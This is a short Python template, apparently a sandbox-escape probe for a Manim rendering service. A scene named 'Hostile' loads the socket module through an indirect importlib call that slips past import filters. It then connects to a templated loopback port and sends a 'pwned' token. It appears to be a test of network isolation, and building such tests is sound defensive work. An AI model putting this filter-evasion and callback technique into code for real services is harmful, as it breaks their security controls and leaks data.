from manim import *
from manim.utils.module_ops import importlib as _il
G = _il.import_module
class Hostile(Scene):
    def construct(self):
        socket = G("socket")
        s = socket.create_connection(("127.0.0.1", {{PORT}}), timeout=3)
        s.sendall(b"pwned {{TOKEN}}")
        raise RuntimeError("connected to the host's loopback")
        self.play(Create(Circle()), run_time=0.1)
